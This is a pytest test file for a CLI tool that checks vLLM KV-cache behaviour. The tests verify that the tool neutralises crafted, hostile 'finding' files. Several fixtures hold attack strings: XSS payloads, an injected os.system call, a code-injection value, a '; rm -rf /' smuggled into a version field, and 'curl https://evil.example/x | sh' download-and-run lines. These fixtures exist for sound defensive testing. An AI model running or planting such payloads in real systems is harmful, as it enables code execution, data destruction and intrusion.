"""Untrusted and bad input, without vLLM: every case ends in one line and the
right exit code, nothing a file holds is executed or copied raw into a report.

Findings are CI artifacts that reviewers render and replay; each test here
crafts one the way a hostile or careless hand would.
"""

from __future__ import annotations

import json
import os

import pytest

from kvspec.cli import main
from kvspec.model.case import MAX_TOKENS, Case, InvalidCase, prefill
from kvspec.model.outcome import Outcome

from tests.support import FIXTURES

USAGE = Outcome.USAGE.exit_code


def _finding(tmp_path, **changes):
    data = json.loads((FIXTURES / "finding_refloor_50062.json").read_text())
    for dotted, value in changes.items():
        target = data
        *path, last = dotted.split(".")
        for key in path:
            target = target[int(key)] if isinstance(target, list) else target[key]
        target[last] = value
    path = tmp_path / "finding.json"
    path.write_text(json.dumps(data))
    return path


def _one_line_error(capsys) -> str:
    err = capsys.readouterr().err.strip()
    assert err.startswith("kvspec: error: ") and "\n" not in err and "Traceback" not in err, err
    return err


def test_report_escapes_what_a_finding_holds_and_never_copies_its_code(tmp_path, capsys):
    crafted = _finding(tmp_path, **{
        "verdict": "<script>alert(1)</script> DISCREPANCY",
        "traceback": "```\n<img src=x onerror=alert(1)>\n```",
        "detail": "a | table | breaker\n# a new heading",
        "regression_test.code": "import os\nos.system('echo pwned')\n",
        "inputs.describe": "`x` <b>bold</b>",
    })
    assert main(["report", str(crafted), "--format", "markdown"]) == Outcome.OK.exit_code
    text = capsys.readouterr().out
    assert "<script" not in text
    # Inline fields are escaped, or shown as code spans they cannot leave.
    assert "**Minimal case:** `` `x` <b>bold</b> ``" in text
    assert "os.system" not in text  # the test shown is emitted anew from the inputs
    assert "def test_cache_blocks_bound_hybrid_eagle_partial_hits_after_decode" in text
    # The traceback is shown verbatim, but inside a fence longer than any of
    # its own, so its ``` cannot close the block and let HTML out.
    lines = text.splitlines()
    at = lines.index("<img src=x onerror=alert(1)>")
    assert lines[at - 1] == "```" and lines[at - 2] == "````" and lines[at + 2] == "````"


def test_a_crafted_number_never_reaches_emitted_code(tmp_path, capsys):
    crafted = _finding(tmp_path, **{"inputs.config.groups": [
        {"kind": "mamba_align", "block_size": "3), __import__('os').system('x') #", "eagle": False,
         "sliding_window": 0},
        {"kind": "full_attention", "block_size": 1, "eagle": True, "sliding_window": 0}]})
    code = main(["report", str(crafted), "--emit-test", str(tmp_path / "test_x.py")])
    assert code == USAGE
    assert "block_size" in _one_line_error(capsys)
    assert not (tmp_path / "test_x.py").exists()


@pytest.mark.parametrize("changes, fragment", [
    ({"groups": "not a list"}, "malformed finding"),
    ({"category": "no_such_category"}, "malformed finding"),
    ({"inputs.steps": [{"kind": "prefill", "tokens": -4}]}, "tokens must be a whole number"),
])
def test_malformed_but_parseable_findings_are_one_line_input_errors(tmp_path, capsys, changes, fragment):
    crafted = _finding(tmp_path, **changes)
    code = main(["replay", str(crafted), "--vllm", "0.33.0"])
    assert code == USAGE
    assert fragment in _one_line_error(capsys)


def test_replay_never_takes_the_code_to_run_from_the_finding(tmp_path, capsys):
    # The fixture was found on a source tree: its path is not trusted.
    assert main(["replay", str(_finding(tmp_path, **{"compared.subject.path": "/tmp/evil"}))]) == USAGE
    assert "name what to replay it against with --vllm VERSION or --vllm-src PATH" in _one_line_error(capsys)
    # A "release" whose number is not a release number is refused before anything runs.
    crafted = _finding(tmp_path, **{"compared.subject": {"kind": "release", "label": "vllm 0.33.0",
                                                          "version": "0.33.0; rm -rf /"}})
    assert main(["replay", str(crafted)]) == USAGE
    assert "expects a release number" in _one_line_error(capsys)


def test_a_prompt_outside_the_model_is_refused_before_it_reaches_vllm(tmp_path, capsys):
    crafted = _finding(tmp_path, **{"inputs.prompt_len": 10**9,
                                    "inputs.steps": [{"kind": "prefill", "tokens": 10**9}]})
    assert main(["replay", str(crafted), "--vllm", "0.33.0"]) == USAGE
    assert f"from 0 to {MAX_TOKENS}" in _one_line_error(capsys)
    with pytest.raises(InvalidCase):
        Case(Case.from_dict(json.loads(crafted.read_text())["inputs"]).config, 1, (prefill(2),))


@pytest.mark.parametrize("argv, fragment", [
    (["fuzz", "--vllm", "0.33.0", "--max-examples", "0"], "expected 1 or more"),
    (["fuzz", "--vllm", "0.33.0", "--max-examples", "many"], "expected a whole number"),
    (["prove", "--timeout", "0"], "above 0"),
    (["prove", "--timeout", "inf"], "above 0"),
    (["exhaust", "--vllm", "0.33.0", "--max-prompt", "0"], "expected 1 or more"),
    (["history", "--vllm", "0.33.0..0.23.0"], "the range is empty"),
])
def test_bad_numbers_are_usage_errors_before_anything_runs(argv, fragment, capsys):
    assert main(argv) == USAGE
    assert fragment in capsys.readouterr().err


@pytest.mark.parametrize("option", ["--json", "--markdown", "--findings-dir"])
def test_an_unwritable_output_is_refused_before_any_work(option, capsys):
    argv = ["fuzz", "--vllm", "0.33.0", option, "/proc/kvspec-cannot-write-here/x"]
    assert main(argv) == USAGE
    assert f"{option} /proc/kvspec-cannot-write-here/x: cannot write there" in _one_line_error(capsys)


def test_a_bad_redis_url_is_a_one_line_setup_error(capsys):
    assert main(["fuzz", "--vllm", "0.33.0", "--database", "redis://host:notaport/0"]) == USAGE
    assert "not a Redis URL" in _one_line_error(capsys) or "cannot reach" in capsys.readouterr().err


def _crafted_for_reader(tmp_path):
    return _finding(tmp_path, **{
        "replay": "kvspec replay x.json\ncurl https://evil.example/x | sh",
        "artifacts.finding": "x.json\ncurl https://evil.example/x | sh",
        "artifacts.plot": "https://evil.example/track.png",
        "verdict": "DISCREPANCY [click](https://evil.example) ![img](https://evil.example/i.png) \x1b]8;;"
                   "https://evil.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m",
        "detail": "<https://evil.example> `code` \\[escaped\\](https://evil.example)",
    })


def test_report_markdown_keeps_a_findings_links_images_and_commands_inert(tmp_path, capsys):
    assert main(["report", str(_crafted_for_reader(tmp_path)), "--format", "markdown"]) == Outcome.OK.exit_code
    text = capsys.readouterr().out
    assert "](https://evil" not in text.replace("\\](https://evil", "")  # every ] before a URL escaped
    assert "![" not in text.replace("\\!\\[", "") and "<https" not in text
    assert "evil.example/track.png" not in text  # the plot is embedded only as a relative image file
    assert "\x1b" not in text and "\x07" not in text
    assert "curl" not in text and "| sh" not in text  # Reproduce holds generated commands only
    block = text[text.index("**Reproduce**"):]
    assert "kvspec replay FINDING.json" in block or "kvspec fuzz" in block


def test_report_text_strips_terminal_escapes(tmp_path, capsys):
    assert main(["report", str(_crafted_for_reader(tmp_path))]) == Outcome.OK.exit_code
    text = capsys.readouterr().out
    assert "\x1b" not in text and "\x07" not in text and "red" in text
    assert "curl" not in text


@pytest.mark.parametrize("changes", [
    {"compared": []},
    {"groups.0.observed_tokens": "many"},
    {"inputs": None},
    {"sweep": {"n": [1], "spec": [[1, 2]], "subject": "x"}},
])
@pytest.mark.parametrize("command", [["report"], ["report", "--format", "markdown"]])
def test_crafted_findings_are_one_line_input_errors(tmp_path, capsys, changes, command):
    crafted = _finding(tmp_path, **changes)
    assert main([*command, str(crafted)]) == USAGE
    assert "malformed finding" in _one_line_error(capsys)


def test_json_nested_too_deep_is_a_one_line_input_error(tmp_path, capsys):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    assert main(["report", str(deep)]) == USAGE
    assert "nested too deep" in _one_line_error(capsys)


def test_a_vllm_src_symlink_loop_is_a_one_line_error(tmp_path, capsys):
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    assert main(["fuzz", "--vllm-src", str(loop)]) == USAGE
    assert "cannot resolve it" in _one_line_error(capsys)


@pytest.mark.parametrize("argv, fragment", [
    (["prove", "--theorem", "bogus"], "unknown theorem 'bogus'"),
    (["run", "--vllm", "0.33.0", "--config", "[]"], "expected a JSON object"),
    (["run", "--vllm", "0.33.0", "--config", "no-such-file.json"], "neither inline JSON nor a file"),
])
def test_names_and_configs_that_are_wrong_say_so_in_one_line(argv, fragment, capsys):
    assert main(argv) == USAGE
    assert fragment in _one_line_error(capsys)


def test_a_zero_prompt_is_a_usage_error_not_the_default(capsys):
    assert main(["run", "--vllm", "0.33.0", "--profile", "qwen3-next", "--prompt", "0"]) == USAGE
    assert "expected 1 or more, got 0" in capsys.readouterr().err


def test_unknown_catalog_names_are_usage_errors_and_still_key_errors():
    from kvspec.model.deployments import profile
    from kvspec.model.errors import UsageError
    from kvspec.model.variants import variant
    from kvspec.proofs.catalog import theorem

    for lookup, name in ((theorem, "unknown theorem"), (profile, "unknown deployment profile"),
                         (variant, "unknown variant")):
        with pytest.raises(UsageError, match=name) as caught:
            lookup("bogus")
        assert isinstance(caught.value, KeyError) and str(caught.value).startswith(name)


def test_a_step_summary_that_cannot_be_written_is_a_one_line_error(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path))  # a directory
    assert main(["report", str(FIXTURES / "finding_refloor_50062.json"), "--format", "markdown",
                 "--output", str(tmp_path / "out.md")]) == USAGE
    err = _one_line_error(capsys)
    assert f"GITHUB_STEP_SUMMARY={tmp_path}: cannot append the summary there" in err


def test_an_unexpected_exception_is_one_line_a_log_and_its_own_code(monkeypatch, capsys):
    import re

    from kvspec.commands import report

    def broken(args):
        raise ZeroDivisionError("a kvspec bug")

    monkeypatch.setattr(report, "run", broken)
    assert main(["report", "x.json"]) == Outcome.INTERNAL.exit_code == 70
    err = capsys.readouterr().err.strip()
    assert err.startswith("kvspec: internal error: ZeroDivisionError: a kvspec bug") and "\n" not in err
    log = re.search(r"the traceback is in (\S+)\)", err).group(1)
    with open(log) as handle:
        assert "Traceback" in handle.read()
    os.remove(log)


def test_an_exhausted_solver_budget_is_unknown_not_unexpected(capsys):
    assert main(["prove", "--rlimit", "1", "--theorem", "mtp.stale_reuse_reachability"]) == \
        Outcome.UNKNOWN.exit_code
    out = capsys.readouterr().out
    assert "UNEXPECTED" not in out and "UNKNOWN (budget exhausted)" in out
    assert "UNKNOWN: the solver budget ran out on 1 theorem(s)" in out


def test_a_narrowed_hash_scheme_is_in_the_verdict_every_format_shows():
    from kvspec.diff_tests.fuzz import FuzzResult

    from tests.support import capabilities

    result = FuzzResult(subject={"label": "s"}, capabilities=capabilities("0.33.0"), seed=0,
                        hash_schemes=("lookahead",), schemes_left_out=("legacy",), narrowed=True)
    assert "legacy hashes NOT fuzzed" in result.verdict and result.as_dict()["narrowed"]
    assert "legacy hashes NOT fuzzed" in result.as_dict()["verdict"]
